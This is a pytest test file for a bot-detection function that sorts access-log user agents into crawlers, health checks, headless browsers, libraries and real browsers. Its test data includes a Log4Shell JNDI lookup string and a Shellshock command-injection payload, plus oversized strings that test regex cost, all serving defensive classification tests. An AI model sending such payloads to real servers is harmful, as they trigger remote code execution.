"""Bots: the published crawlers and browsers as a bar, and what each group of patterns is for."""

import gzip
import json
import time
from pathlib import Path
from typing import Any

import pytest
import yaml

from jobs.access_logs import bots
from jobs.access_logs.bots import CRAWLER, HEADLESS, HEALTH_CHECK, LIBRARY, bot_reason

CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0"
ANDROID = "Mozilla/5.0 (Linux; Android 15; {}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Mobile"

# Families of ua-parser's cases that people browse with.
BROWSERS = {
    *("Chrome", "Chrome Mobile", "Chrome Mobile WebView", "Chrome Mobile iOS", "Chromium", "Chrome Frame"),
    *("Firefox", "Firefox Mobile", "Firefox iOS", "Firefox Beta", "Firefox Alpha", "Iceweasel"),
    *("Safari", "Mobile Safari", "Mobile Safari UI/WKWebView", "Edge", "Edge Mobile", "IE", "IE Mobile"),
    *("Opera", "Opera Mobile", "Opera Mini", "Opera Touch", "Opera GX", "Opera Tablet", "Opera Neon"),
    *(
        "Samsung Internet",
        "Android",
        "Amazon Silk",
        "UC Browser",
        "QQ Browser",
        "QQ Browser Mobile",
        "Puffin",
    ),
    *("Yandex Browser", "Vivaldi", "Brave", "Whale", "DuckDuckGo Mobile", "MIUI Browser", "VivoBrowser"),
    *(
        "HeyTap Browser",
        "Honor Browser",
        "Huawei Browser",
        "Maxthon",
        "Pale Moon",
        "Coc Coc",
        "Oculus Browser",
    ),
    *("Facebook", "Instagram", "WeChat Browser", "Weibo", "TikTok", "Twitter", "Nokia Browser"),
    *("BlackBerry WebKit", "Konqueror", "SeaMonkey", "Camino", "Epiphany", "Dolphin", "Sleipnir"),
}


def unpacked(path: Path) -> bytes:
    with gzip.open(path) as file:
        return file.read()


@pytest.fixture(scope="module")
def entries(shared_data: Path) -> list[dict[str, Any]]:
    listed: list[dict[str, Any]] = json.loads(
        unpacked(shared_data / "bots" / "crawler-user-agents.dev-half.json.gz")
    )
    return listed


@pytest.fixture(scope="module")
def crawlers(entries: list[dict[str, Any]]) -> list[str]:
    return [instance for entry in entries for instance in entry["instances"]]


@pytest.fixture(scope="module")
def browsers(shared_data: Path) -> list[str]:
    cases = yaml.load(unpacked(shared_data / "bots" / "uap_test_ua.yaml.gz"), Loader=yaml.CSafeLoader)[
        "test_cases"
    ]
    return [case["user_agent_string"] for case in cases if case["family"] in BROWSERS]


def share_flagged(user_agents: list[str], patterns: list[bots.Pattern]) -> float:
    matcher = bots.matcher(patterns)
    found = [matcher.extract(bots.as_sent(user_agent)) for user_agent in user_agents]
    return sum(match is not None and match.family in bots.REASONS for match in found) / len(user_agents)


@pytest.mark.shared_data
def test_nearly_every_published_crawler_is_flagged(crawlers: list[str]) -> None:
    assert len(crawlers) == 1_050
    assert sum(bot_reason(crawler) is not None for crawler in crawlers) / len(crawlers) >= 0.99


@pytest.mark.shared_data
def test_the_words_alone_find_most_crawlers_without_any_list(crawlers: list[str]) -> None:
    assert share_flagged(crawlers, bots.patterns([])) >= 0.97


@pytest.mark.shared_data
def test_half_the_list_and_the_words_find_crawlers_of_the_other_half(entries: list[dict[str, Any]]) -> None:
    known = bots.patterns(list(bots.published_patterns(entries[::2])))
    unseen = [instance for entry in entries[1::2] for instance in entry["instances"]]
    assert share_flagged(unseen, known) >= 0.95


@pytest.mark.shared_data
def test_no_browser_of_the_published_cases_is_flagged(browsers: list[str]) -> None:
    assert len(browsers) > 200
    assert [browser for browser in browsers if bot_reason(browser)] == []


@pytest.mark.parametrize(
    ("user_agent", "reason"),
    [
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", CRAWLER),
        ("Mozilla/5.0 (compatible; NeverSeenBefore/1.0)", CRAWLER),
        (f"{CHROME} Safari/537.36 (contact: crawl-team@example.org)", CRAWLER),
        ("TwitterBot", CRAWLER),
        ("facebookexternalhit/1.1", CRAWLER),
        ("${jndi:ldap://203.0.113.9/a}", CRAWLER),
        ("() { :; }; /bin/bash -c id", CRAWLER),
        ("ELB-HealthChecker/2.0", HEALTH_CHECK),
        ("kube-probe/1.29", HEALTH_CHECK),
        ("Amazon-Route53-Health-Check-Service (ref 1; report http://amzn.to/1vsZADi)", HEALTH_CHECK),
        ("Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", HEALTH_CHECK),
        (f"{CHROME.replace('Chrome', 'HeadlessChrome')} Safari/537.36", HEADLESS),
        ("Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/534.34 PhantomJS/1.9.8 Safari/534.34", HEADLESS),
        ("curl/8.5.0", LIBRARY),
        ("python-requests/2.32.3", LIBRARY),
        ("okhttp/4.12.0", LIBRARY),
        ("Go-http-client/2.0", LIBRARY),
        ("node", LIBRARY),
        ("Mozilla/5.0", LIBRARY),
        ("SomethingNobodyKnows", LIBRARY),
        (f"{CHROME} Safari/537.36", None),
        (ANDROID.format("CUBOT X50"), None),
        (ANDROID.format("CPH2617 Build/AP3A.240617.008"), None),
        ("Mozilla/5.0 (iPad; U; CPU iPhone OS 7_0 like Mac OS X; de-DE) WIRED/3.2.3.11.87970", None),
        ("Opera/9.80 (MAUI Runtime; Opera Mini/4.4.39008/37.9178; U; en) Presto/2.12", None),
        ("Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; Trident/6.0)", None),
        (
            "Mozilla/5.0 (iPhone; CPU iPhone OS 6_1) Mobile/10B329 [FBAN/FBIOS; FBCR/Telekom.de;FBID/phone]",
            None,
        ),
        ("MyGame/12 CFNetwork/1410.0.3 Darwin/22.6.0", None),
        ("Dalvik/2.1.0 (Linux; U; Android 8.0.0; SM-A520F Build/R16NW)", None),
        ("UnityPlayer/2022.3.10f1 (UnityWebRequest/1.0, libcurl/8.1.1-DEV)", None),
        (ANDROID.format("SM-S928B Build/AP3A.240905.015.A2; wv") + " Safari/537.36 MetaIAB Facebook", None),
        ("Amazon CloudFront", None),
        ("-", None),
        ("", None),
        (None, None),
    ],
)
def test_each_kind_of_user_agent_has_its_reason(user_agent: str | None, reason: str | None) -> None:
    assert bot_reason(user_agent) == reason


@pytest.mark.parametrize(
    ("encoded", "reason"),
    [
        ("Mozilla/5.0%20(compatible;%20bingbot/2.0)", CRAWLER),
        (CHROME.replace(" ", "%20") + "%20Safari/537.36", None),
        (CHROME.replace(" ", "%2520") + "%2520Safari/537.36", None),
        (CHROME.replace(" ", "+") + "+Safari/537.36", None),
        ("Mozilla/5.0%20(compatible;%20NeverSeenBefore/1.0)", CRAWLER),
        ("Mozilla/5.0%2520(compatible;%2520NeverSeenBefore/1.0)", CRAWLER),
        ("Mozilla/5.0+(compatible;+NeverSeenBefore/1.0)", CRAWLER),
        ("Mozilla/5.0+(compatible;+Googlebot/2.1;++http://www.google.com/bot.html)", CRAWLER),
    ],
)
def test_a_user_agent_that_its_log_encoded_is_judged_as_sent(encoded: str, reason: str | None) -> None:
    assert bot_reason(encoded) == reason


def test_a_pattern_of_the_list_must_have_letters_and_begin_a_word() -> None:
    entries = [
        {"pattern": "RED\\/", "tags": ["seo"]},
        {"pattern": "008\\/", "tags": ["seo"]},
        {"pattern": "Selenium", "tags": ["browser-automation"]},
        {"pattern": "^curl"},
    ]
    assert list(bots.published_patterns(entries)) == [
        (r"\b(?:RED\/)", CRAWLER),
        (r"\b(?:Selenium)", HEADLESS),
        ("^curl", CRAWLER),
    ]


def test_twenty_thousand_user_agents_are_judged_in_well_under_a_second_and_a_half() -> None:
    started = time.perf_counter()
    for number in range(20_000):
        bot_reason(f"{CHROME} Safari/537.36 Edg/{number}.0")
    assert time.perf_counter() - started < 1.5


@pytest.mark.parametrize(
    "hostile",
    [
        "bot" * 21_846 + "x",
        "compatible; " * 5_462,
        "@" * 65_536,
        "a-" * 32_768,
        "(" * 65_536,
        "www." * 16_384,
    ],
)
def test_a_hostile_user_agent_costs_no_more_than_another(hostile: str) -> None:
    bot_reason("warm")
    started = time.perf_counter()
    for number in range(200):
        bot_reason(f"{number}{hostile}")
    assert time.perf_counter() - started < 0.5


def test_a_user_agent_is_judged_by_its_first_thousand_characters() -> None:
    assert bot_reason(CHROME + " " * (1_024 - len(CHROME) - 3) + "bot") == CRAWLER
    assert bot_reason(CHROME + " " * (1_024 - len(CHROME) - 2) + "bot") is None


def test_what_is_remembered_is_bounded() -> None:
    assert bots._judged.cache_info().maxsize == 32_768
